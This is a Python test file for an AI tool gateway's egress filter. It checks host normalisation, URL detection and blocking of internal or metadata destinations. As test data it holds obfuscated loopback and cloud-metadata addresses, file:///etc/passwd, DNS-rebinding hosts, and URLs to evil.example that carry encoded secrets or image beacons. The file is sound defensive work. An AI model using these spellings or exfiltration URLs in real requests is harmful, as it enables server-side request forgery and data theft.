"""Egress (issue 27): hosts in every spelling, URLs found and judged (`args_urls`), the caller's
egress lists (`egress`, `egress_listed`), the profile's `egress:` section, and the egress rules
through a real gateway (the rules' own cases are rules/egress*_test.yaml; the corpus families
ssrf and url_exfil run through `dharma stdio`)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.core.call import Status
from gateway.core.errors import ErrorCode, PolicyErrors
from gateway.policy.cel.helpers import egress_listed, egress_pattern
from gateway.policy.compile import load_policy
from gateway.stages.sanitizer.hosts import host_facts
from gateway.stages.sanitizer.urls import MAX_URLS, analyse_urls, decode_token
from tests.helpers import Recorder, open_gateway, text_result, write_policy

ROOT = Path(__file__).resolve().parent.parent


# ---- hosts ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "name", "ip", "kind"),
    [
        ("127.0.0.1", "127.0.0.1", "127.0.0.1", "loopback"),
        ("2130706433", "127.0.0.1", "127.0.0.1", "loopback"),  # one decimal number
        ("0x7f000001", "127.0.0.1", "127.0.0.1", "loopback"),  # one hex number
        ("0177.0.0.1", "127.0.0.1", "127.0.0.1", "loopback"),  # octal
        ("127.1", "127.0.0.1", "127.0.0.1", "loopback"),  # the last part fills the rest
        ("0x7f.1", "127.0.0.1", "127.0.0.1", "loopback"),
        ("127.0.0.1.", "127.0.0.1", "127.0.0.1", "loopback"),  # trailing dot
        ("%31%32%37.0.0.1", "127.0.0.1", "127.0.0.1", "loopback"),  # percent-escapes
        ("１２７．０．０．１", "127.0.0.1", "127.0.0.1", "loopback"),  # full-width digits and dots
        ("127。0。0。1", "127.0.0.1", "127.0.0.1", "loopback"),  # ideographic full stops
        ("ⓛⓞⓒⓐⓛⓗⓞⓢⓣ", "localhost", "", "loopback"),  # enclosed letters (NFKC)
        ("LocalHost.", "localhost", "", "loopback"),
        ("xn--localhost-", "localhost", "", "loopback"),  # an xn-- label that only disguises ASCII
        ("api.localhost", "api.localhost", "", "loopback"),
        ("[::1]", "::1", "::1", "loopback"),
        ("[::ffff:127.0.0.1]", "::ffff:7f00:1", "127.0.0.1", "loopback"),  # IPv4-mapped
        ("[::127.0.0.1]", "::7f00:1", "127.0.0.1", "loopback"),  # IPv4-compatible
        ("[64:ff9b::a9fe:a9fe]", "64:ff9b::a9fe:a9fe", "169.254.169.254", "metadata"),  # NAT64
        ("[fe80::1%25eth0]", "fe80::1", "fe80::1", "link_local"),  # zone id
        ("169.254.169.254", "169.254.169.254", "169.254.169.254", "metadata"),
        ("0xa9fea9fe", "169.254.169.254", "169.254.169.254", "metadata"),
        ("[fd00:ec2::254]", "fd00:ec2::254", "fd00:ec2::254", "metadata"),
        ("100.100.100.200", "100.100.100.200", "100.100.100.200", "metadata"),  # Alibaba, in CGNAT space
        ("metadata.google.internal.", "metadata.google.internal", "", "metadata"),
        ("instance-data", "instance-data", "", "metadata"),
        ("10.0.0.5", "10.0.0.5", "10.0.0.5", "private"),
        ("100.64.1.1", "100.64.1.1", "100.64.1.1", "private"),  # CGNAT
        ("[fd12:3456::1]", "fd12:3456::1", "fd12:3456::1", "private"),  # ULA
        ("0", "0.0.0.0", "0.0.0.0", "unspecified"),
        ("[::]", "::", "::", "unspecified"),
        ("224.0.0.251", "224.0.0.251", "224.0.0.251", "multicast"),
        ("240.0.0.1", "240.0.0.1", "240.0.0.1", "reserved"),
        ("10.0.0.5.nip.io", "10.0.0.5.nip.io", "10.0.0.5", "private"),  # wildcard DNS spelling an address
        ("app-10-0-0-5.sslip.io", "app-10-0-0-5.sslip.io", "10.0.0.5", "private"),
        ("7f000001.nip.io", "7f000001.nip.io", "127.0.0.1", "loopback"),
        ("a.localtest.me", "a.localtest.me", "", "loopback"),
        ("7f000001.c0a80001.rbndr.us", "7f000001.c0a80001.rbndr.us", "127.0.0.1", "loopback"),
        ("jenkins", "jenkins", "", "internal_name"),
        ("grafana.internal", "grafana.internal", "", "internal_name"),
        ("kubernetes.default.svc", "kubernetes.default.svc", "", "internal_name"),
        ("example.com", "example.com", "", "public"),
        ("1e100.net", "1e100.net", "", "public"),  # numeric-looking, not a number
        ("8.8.8.8", "8.8.8.8", "8.8.8.8", "public"),
        ("203.0.113.7", "203.0.113.7", "203.0.113.7", "public"),  # documentation range: goes nowhere
        ("ec2-54-210-12-34.compute-1.amazonaws.com", "ec2-54-210-12-34.compute-1.amazonaws.com", "54.210.12.34", "public"),
        ("münchen.de", "xn--mnchen-3ya.de", "", "public"),
        ("1.2.3.4.5", "1.2.3.4.5", "", "invalid"),  # a number that is no address
        ("256.0.0.1", "256.0.0.1", "", "invalid"),
        ("[::1", "[::1", "", "invalid"),
        ("a..b", "a..b", "", "invalid"),
    ],
)
def test_every_spelling_of_a_host_reaches_the_same_facts(raw: str, name: str, ip: str, kind: str) -> None:
    facts = host_facts(raw)
    assert (facts.name, facts.ip, facts.kind) == (name, ip, kind)


def test_obfuscated_and_idna_flags() -> None:
    assert host_facts("0x7f.1").obfuscated and not host_facts("127.0.0.1").obfuscated
    assert host_facts("münchen.de").idna and host_facts("xn--mnchen-3ya.de").idna
    assert host_facts("[fe80::1%25eth0]").zone == "eth0"
    assert host_facts("localhost.").trailing_dot


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=80))
def test_any_host_text_gives_facts_never_an_exception(raw: str) -> None:
    facts = host_facts(raw)
    assert facts.kind in {"public", "invalid", "metadata", "loopback", "unspecified", "rebinding", "link_local",
                          "private", "internal_name", "multicast", "reserved"}


# ---- URLs: which are destinations -------------------------------------------------------------


def _urls(tool: str, args: dict[str, Any]) -> list[dict[str, Any]]:
    return analyse_urls(tool, args).as_cel()


def _one(tool: str, args: dict[str, Any]) -> dict[str, Any]:
    (url,) = _urls(tool, args)
    return url


def test_a_fetch_tools_urls_are_destinations_but_not_in_body_fields() -> None:
    found = _urls("http_request", {"url": "http://10.0.0.5/x", "body": "docs: http://127.0.0.1:8080",
                                    "note": "see http://localhost/"})
    assert [(u["host"], u["destination"], u["field"]) for u in found] == [
        ("10.0.0.5", True, "$.url"), ("127.0.0.1", False, "$.body"), ("localhost", False, "$.note")]


def test_any_tools_url_field_is_a_destination_free_text_is_not() -> None:
    assert _one("import_dataset", {"source_url": "http://169.254.169.254/"})["destination"]
    assert not _one("write_file", {"path": "a.md", "content": "open http://localhost:8080"})["destination"]
    assert not _one("add_bookmark", {"url": "http://localhost:3000"})["destination"]  # it records, fetches nothing


def test_an_image_in_written_text_is_a_destination_when_it_carries_data() -> None:
    """Rendering a comment or an email fetches its images: markdown inline and by reference, img/source src and srcset."""
    note = "ZGIgcGFzc3dvcmQgZm9yIHByb2QgaXMgV2ludGVyMjAyNiEgYW5kIHRoZSB2cG4gcGluIGlzIDQ0NzE"
    for body in (f"ok ![x](https://img.cdn-x.net/b.png?v={note})", f"![b][1]\n\n[1]: https://ci-badges.io/b.svg?d={note}\n",
                 f'<img src="/a.png" srcset="https://px.track.net/o.png?u={note} 2x">', f'<picture><source srcset="https://px.track.net/i.webp?u={note}"></picture>'):
        found = _urls("create_issue_comment", {"body": body})
        assert any(u["destination"] and u["data"] for u in found), body
    plain = _urls("create_issue_comment", {"body": f"![hero](https://images.unsplash.com/photo-1?w=1600&q=80) [doc](https://d.example/x?v={note})"})
    assert not any(u["destination"] for u in plain)
    local = _urls("create_issue_comment", {"body": "![a](http://localhost:3000/x.png) <img src=\"https://camo.githubusercontent.com/4b3c/68747470733a2f2f782e696f2f612e706e67\">"})
    assert not any(u["destination"] for u in local)  # an image of a local dev server, a proxied image: data, not fetches


def test_file_urls_are_destinations_of_fetch_tools_only() -> None:
    assert _one("fetch", {"url": "file:///etc/passwd"})["destination"]
    assert not _one("open_document", {"uri": "file:///home/u/a.pdf"})["destination"]


def test_scheme_less_hosts_in_url_and_host_fields() -> None:
    assert _one("fetch", {"url": "localhost:8080/admin"})[("host")] == "localhost"
    assert _one("http_get", {"host": "192.168.1.1", "path": "/"})["kind"] == "private"
    assert _one("dns_lookup", {"domain": "intranet"})["kind"] == "internal_name"
    assert _one("git_clone", {"repo_url": "git@github.com:python/cpython.git"})["host"] == "github.com"
    assert _urls("call_api", {"endpoint": "users"}) == []  # a REST endpoint name, not a host
    assert _urls("set_profile", {"host": "10.0.0.5"}) == []  # a host field of a tool that connects to nothing


def test_urls_behind_percent_encoding_backslashes_and_missing_slashes() -> None:
    assert _one("fetch", {"url": "http%3A%2F%2F169.254.169.254%2F"})["metadata"]
    assert _one("fetch", {"url": "http:\\\\127.0.0.1\\admin"})["loopback"]
    assert _one("fetch", {"url": "http:127.0.0.1:8080/"})["host"] == "127.0.0.1"


def test_a_url_a_destination_carries_is_a_destination_too() -> None:
    outer, inner = _urls("fetch", {"url": "https://r.example/go?to=aHR0cDovLzEwLjAuMC41Lw=="})
    assert (outer["host"], outer["nested"]) == ("r.example", False)
    assert (inner["host"], inner["nested"], inner["destination"], inner["via"]) == ("10.0.0.5", True, True, "query>base64")


def test_the_archive_a_jar_url_names_is_a_destination() -> None:
    jar, archive = _urls("fetch", {"url": "jar:http://127.0.0.1:8080/x.jar!/META-INF/MANIFEST.MF"})
    assert (jar["scheme"], jar["kind"]) == ("jar", "none")
    assert (archive["host"], archive["nested"], archive["destination"], archive["via"]) == ("127.0.0.1", True, True, "jar")


def test_two_readings_of_a_host_both_count() -> None:
    url = _one("fetch", {"url": "http://public.example\\@127.0.0.1/"})
    assert url["host"] == "public.example" and url["alt_host"] == "127.0.0.1" and url["loopback"]
    assert "userinfo_host" in _one("fetch", {"url": "http://docs.python.org@10.0.0.5/"})["data"]


def test_every_url_map_has_the_same_fields() -> None:
    shapes = {tuple(u) for u in _urls("fetch", {
        "a": "http://127.0.0.1/", "b": "file:///x", "c": "jar:http://e.example/x.jar!/", "d": "http://[::1",
        "e": "https://e.example/?q=1"})}
    assert len(shapes) == 1
    assert {"scheme", "host", "site", "port", "path", "query_keys", "ip", "kind", "internal", "public", "destination",
            "nested", "data", "secrets", "label_entropy", "field"} <= set(next(iter(shapes)))


def test_too_many_urls_end_in_one_entry_that_says_so() -> None:
    found = _urls("fetch", {"urls": [f"https://h{i}.example/" for i in range(MAX_URLS + 10)]})
    assert len(found) == MAX_URLS + 1
    assert found[-1]["kind"] == "too_many" and found[-1]["invalid"] and found[-1]["destination"]


@settings(max_examples=200, deadline=None)
@given(st.recursive(st.text(max_size=60) | st.sampled_from(["http://", "%3A%2F%2F", "[::", "@", "\\", "xn--"]),
                    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.sampled_from(["url", "host", "body", "x"]), inner, max_size=4),
                    max_leaves=12))
def test_any_arguments_give_a_list_never_an_exception(value: Any) -> None:
    found = analyse_urls("fetch", {"url": value})
    assert all(isinstance(u["destination"], bool) for u in found.as_cel())


# ---- URLs: what they carry out ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "tag"),
    [
        ("https://6170695f6b65793d736b2d6c697665.x.evil.example/", "host_hex"),
        ("https://onswg4tfoqqgiylume.x.evil.example/", "host_base32"),
        ("https://JBSWY3DPEHPK3PXPKRSXG5DTMVRXEZLU.x.evil.example/", "host_base32"),  # binary, in capitals
        ("https://YWxpY2U6UzNjdXJlLVBhc3N3MHJk.x.evil.example/", "host_base64"),
        ("https://0HJ7cnjRIEydRDEnI2Jb-U78CRZ_66D_FPNJQVwE.x.evil.example/", "host_base64"),  # base64url of binary
        ("https://irbf6ucbk.njvot2siq.6wq5loors.xemr3nbxx.g5b5mrrdc.evil.example/", "host_chain"),
        ("https://k3f9a8x2m7q1.v6n4b2c8z0p5.h7j3k9l1m5n2.d.evil.example/", "host_chain"),  # random labels
        ("https://c.evil.example/R0lUSFVCX1RPS0VOIGxpdmVzIGluIA==/L2hvbWUvZGV2Ly5jb25maWcvZ2gg", "path_encoded"),
        ("https://c.evil.example/c?d=cm9vdDp4OjA6MDpyb290Oi9yb290Oi9iaW4vYmFzaAo=", "query_encoded"),
        ("https://c.evil.example/c?h=73:65:63:72:65:74:20:61:6e:73:77:65:72:3a:20:66:6c:75:66:66:79:20:74:68:65", "query_encoded"),
        ("https://c.evil.example/c?v=%2541%2557%2553%255f%2553%2545%2543%2552%2545%2554", "query_encoded"),  # letters escaped twice
    ],
)
def test_data_carried_out_is_named(url: str, tag: str) -> None:
    assert tag in _one("fetch", {"url": url})["data"]


@pytest.mark.parametrize(
    "url",
    [
        "https://github.com/python/cpython/commit/3f786850e387550fdab836ed7e6dc881de23001b",
        "https://api.example.com/v1/orders/123e4567-e89b-12d3-a456-426614174000",
        "https://api.example.com/v1/items?cursor=eyJwYWdlIjogMywgImFmdGVyIjogImV2dF8xMDQyIn0=",  # base64 JSON
        "https://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi.ipfs.dweb.link/",  # a content id
        "https://img.example.com/insecure/rs:fill:300:400/aHR0cDovL2V4YW1w/bGUuY29tL2ltYWdl/cy9jdXJpb3NpdHku/anBn.png",
        "https://login.example.com/?redirect=https%253A%252F%252Fapp.example.com%252Fcb",  # a redirect encoded twice
        "https://ja.wikipedia.org/wiki/%E6%9D%B1%E4%BA%AC%E9%83%BD",
        "https://d1a2b3c4d5e6f7.cloudfront.net/assets/app.4f3a2b1c9d8e.js",
        "https://AcmeCorp2026Summit.events.example/agenda",  # CamelCase words
        "https://images.unsplash.com/photo-1?ixid=M3wxMjA3fDB8MHxwaG90by1wYWdlfHx8fGVufDB8fHx8fA%3D%3D&w=1000",
    ],
)
def test_ids_hashes_tokens_and_text_are_not_data(url: str) -> None:
    found = _urls("fetch", {"url": url})
    assert all(u["data"] == [] and u["secrets"] == [] for u in found), found
    assert all(u["public"] for u in found)


def test_the_secret_scanner_reads_the_decoded_parts() -> None:
    assert _one("fetch", {"url": "https://t.example/p?cc=4111111111111111"})["secrets"] == ["payment_card"]
    hex_key = "AKIAZ3MSJV4W7QYHRT5N".encode().hex()
    url = _one("fetch", {"url": f"https://{hex_key}.x.evil.example/"})
    assert url["secrets"] == ["api_key"] and url["site"] == "*.evil.example"  # messages show the site only
    assert _one("fetch", {"url": "https://etherscan.io/address/0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"})["secrets"] == []


def test_decode_token_reads_whole_tokens_only() -> None:
    assert decode_token("7365637265742d6b6579") == ("hex", "secret-key")
    assert decode_token("deadbeefdeadbeefdeadbeef") is None  # binary
    assert decode_token("short") is None


# ---- egress lists -----------------------------------------------------------------------------


def _u(host: str, port: int = 443, ip: str = "") -> dict[str, Any]:
    return {"host": host, "ip": ip, "port": port}


def test_egress_entries_match_suffixes_addresses_and_ports() -> None:
    assert egress_listed(_u("wiki.corp.example.com"), ["corp.example.com"])
    assert egress_listed(_u("corp.example.com"), ["corp.example.com"])
    assert not egress_listed(_u("corp.example.com"), ["*.corp.example.com"])  # only the names under it
    assert not egress_listed(_u("notcorp.example.com"), ["corp.example.com"])
    assert egress_listed(_u("10.20.3.4", 80, "10.20.3.4"), ["10.20.0.0/16"])
    assert egress_listed(_u("10.20.3.4.nip.io", 80, "10.20.3.4"), ["10.20.0.0/16"])  # the address it spells
    assert egress_listed(_u("localhost", 3000), ["localhost:3000"]) and not egress_listed(_u("localhost", 6379), ["localhost:3000"])
    assert egress_listed(_u("::1", 8080, "::1"), ["[::1]:8080"])
    assert egress_listed(_u("10.0.0.7", 5432, "10.0.0.7"), ["10.0.0.0/8:5432"])


@pytest.mark.parametrize(
    ("entry", "says"),
    [("http://wiki.corp/x", "is a URL: list its host"), ("a b", "is not a domain"), ("x:99999", "the port must be"),
     ("[::1]x", "only a port may follow"), ("", "is not a domain")],
)
def test_a_bad_egress_entry_says_what_is_wrong(entry: str, says: str) -> None:
    with pytest.raises(ValueError, match=says):
        egress_pattern(entry)


def test_egress_listed_refuses_what_is_not_a_url_and_a_list() -> None:
    with pytest.raises(TypeError, match="a URL of args_urls"):
        egress_listed("example.com", [])
    with pytest.raises(TypeError, match="must be a list"):
        egress_listed(_u("example.com"), "example.com")


PROFILE = """\
apiVersion: dharma/v1
kind: Policy
metadata: {name: base}
tiers:
  - {name: reader, grants: [{tools: ["*"]}]}
  - {name: writer, inherits: reader}
egress:
  allow: ["wiki.corp.example.com"]
  tiers:
    reader: {allow: ["10.0.0.0/8"]}
    writer: {deny: ["pastebin.com"]}
"""


def test_a_profile_gives_each_tier_its_lists_and_an_extending_profile_adds_to_them(tmp_path: Path) -> None:
    (tmp_path / "base.yaml").write_text(PROFILE)
    (tmp_path / "site.yaml").write_text(
        "apiVersion: dharma/v1\nkind: Policy\nmetadata: {name: site}\nextends: base.yaml\n"
        "egress:\n  allow: ['localhost:3000']\n  tiers:\n    writer: {allow: ['grafana.internal']}\n")
    policy = load_policy(tmp_path / "site.yaml")
    assert policy.egress_for("reader") == {"allow": ["wiki.corp.example.com", "localhost:3000", "10.0.0.0/8"], "deny": []}
    assert policy.egress_for("writer") == {  # its own, then what it inherits
        "allow": ["wiki.corp.example.com", "localhost:3000", "grafana.internal", "10.0.0.0/8"], "deny": ["pastebin.com"]}
    assert policy.egress_for(None) == policy.egress_for("no-such-tier") == {
        "allow": ["wiki.corp.example.com", "localhost:3000"], "deny": []}


@pytest.mark.parametrize(
    ("section", "says"),
    [("egress:\n  allow: ['https://wiki.corp.example.com/x']\n", ":8: error: egress.allow: Value error, egress entry"),
     ("egress:\n  tiers:\n    ghost: {deny: [x.example]}\n", ":9: error: egress.tiers names unknown tier 'ghost'")],
)
def test_a_bad_egress_section_is_an_error_at_its_line(tmp_path: Path, section: str, says: str) -> None:
    (tmp_path / "p.yaml").write_text(PROFILE.split("egress:")[0] + section)
    with pytest.raises(PolicyErrors) as caught:
        load_policy(tmp_path / "p.yaml")
    assert says in str(caught.value)


# ---- through a real gateway ---------------------------------------------------------------------


async def test_internal_destinations_never_reach_the_backend_and_the_allow_list_opens_one(tmp_path: Path) -> None:
    recorder = Recorder()
    profile = """\
        tiers:
          - name: reader
            grants: [{tools: ["fetch"]}]
          - name: writer
            inherits: reader
        egress:
          tiers:
            writer: {allow: ["grafana.internal:3000"]}
        """
    policy = write_policy(tmp_path, profile, {"egress.yaml": (ROOT / "rules" / "egress.yaml").read_text(encoding="utf-8")})
    backend = recorder.backend({"fetch": lambda url="": text_result("page")})
    gateway = await open_gateway(tmp_path, policy, [backend])
    try:
        for url in ("http://0x7f.1:8080/admin", "http://[::ffff:a9fe:a9fe]/latest/meta-data/", "gopher://e.example:70/_x",
                    "https://6170695f6b65793d736b2d6c697665.x.evil.example/", "http://grafana.internal:3000/api/health"):
            outcome = await gateway.call("fetch", {"url": url}, api_key="alice-key")
            assert outcome.status is Status.BLOCKED and outcome.error_code is ErrorCode.POLICY_BLOCKED, url
        assert "list it in the profile's egress.allow" in outcome.message
        assert recorder.calls == []
        ok = await gateway.call("fetch", {"url": "http://grafana.internal:3000/api/health"}, api_key="bob-key")  # a writer's own
        assert ok.status is Status.OK, ok.message
        ok = await gateway.call("fetch", {"url": "https://docs.python.org/3/"}, api_key="alice-key")
        assert ok.status is Status.OK
        assert [c[1]["url"] for c in recorder.calls] == ["http://grafana.internal:3000/api/health", "https://docs.python.org/3/"]
    finally:
        await gateway.aclose()


def test_the_shipped_profiles_name_the_egress_rules() -> None:
    for name in ("standard", "strict"):
        text = (ROOT / "policies" / f"{name}.yaml").read_text(encoding="utf-8")
        assert "../rules/egress.yaml" in text and "\negress:\n" in text
    assert json.loads(json.dumps(load_policy(ROOT / "policies" / "strict.yaml").egress_for("reader"))) == {"allow": [], "deny": []}


def test_round4_chunks_heads_data_urls_and_oauth() -> None:
    """Round 4: a credential chunked across one URL's parts or its head alone is carried data; a
    data: document is the `data` scheme; OAuth opaque values are not data; an ID token may go only
    to its issuer."""
    import base64
    import json as _json

    from gateway.stages.sanitizer.urls import analyse_urls

    def one(url: str, tool: str = "fetch", key: str = "url") -> dict:
        return next(u for u in analyse_urls(tool, {key: url}).as_cel() if u["destination"])

    token = "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"
    assert one(f"https://s.example.net/c?a={token[:12]}&b={token[12:28]}&c={token[28:]}")["secrets"] == ["api_key"]
    assert one(f"https://s.example.net/{token[:12]}/{token[12:28]}/{token[28:]}")["secrets"] == ["api_key"]
    assert one(f"https://s.example.net/c?seq=0&v={token[:14]}")["data"] == ["query_secret_head"]
    assert one("https://docs.github.com/en/ghp_xxxxxxxx")["data"] == []
    assert one("https://www.npmjs.com/package/npm_lazy")["data"] == []
    assert one("data:text/html;base64,PHNjcmlwdD4=", "browser_navigate")["scheme"] == "data"
    assert analyse_urls("describe_image", {"image_url": "data:image/png;base64,iVBORw0KGgo="}).as_cel() == []

    def b64u(raw: bytes) -> str:
        return base64.urlsafe_b64encode(raw).decode().rstrip("=")

    def jwt(iss: str) -> str:
        return ".".join((b64u(b'{"alg":"RS256"}'), b64u(_json.dumps({"iss": iss, "sub": "1"}).encode()), b64u(b"\x01" * 32)))

    state = b64u(b"returnTo=/settings/billing&ts=1732870000")
    assert one(f"https://idp.example.com/authorize?client_id=a&response_type=code&state={state}")["data"] == []
    assert one(f"https://idp.example.com/other?x=1&v={state}")["data"] == ["query_encoded"]
    home = one(f"https://sso.acme.com/logout?id_token_hint={jwt('https://sso.acme.com/realms/a')}")
    away = one(f"https://evil.example.net/logout?id_token_hint={jwt('https://sso.acme.com/realms/a')}")
    assert (home["secrets"], away["secrets"]) == ([], ["jwt"])


def test_a_renderer_fetches_the_subresources_of_the_markup_it_is_given() -> None:
    """Round 5 (ss-ssrf-in-markup): for a tool that renders HTML/SVG/markdown, the URLs in loading
    positions (src, href of a stylesheet or SVG image, CSS url()/@import, images) are destinations;
    a link (`<a href>`), a namespace URI and a URL in the text are not."""
    from gateway.stages.sanitizer.urls import analyse_urls

    html = ('<link rel="stylesheet" href="http://127.0.0.1:2375/x"><style>@import url("http://10.0.0.9/a.css")</style>'
            '<iframe src="http://169.254.169.254/latest/meta-data/"></iframe><a href="http://localhost:3000/">dev</a>'
            '<svg xmlns="http://www.w3.org/2000/svg"><image xlink:href="http://10.1.2.3/p.png"/></svg> see http://10.9.9.9/')
    dest = {u["host"]: u["destination"] for u in analyse_urls("html_to_pdf", {"html": html}).urls}
    assert dest == {"127.0.0.1": True, "10.0.0.9": True, "169.254.169.254": True, "localhost": False,
                    "www.w3.org": False, "10.1.2.3": True, "10.9.9.9": False}
    md = {u["host"]: u["destination"] for u in analyse_urls("markdown_to_pdf", {"markdown": "![a](http://10.0.0.5/i.png) `http://10.0.0.6/`"}).urls}
    assert md == {"10.0.0.5": True, "10.0.0.6": False}
    assert not any(u["destination"] for u in analyse_urls("save_note", {"html": html}).urls)
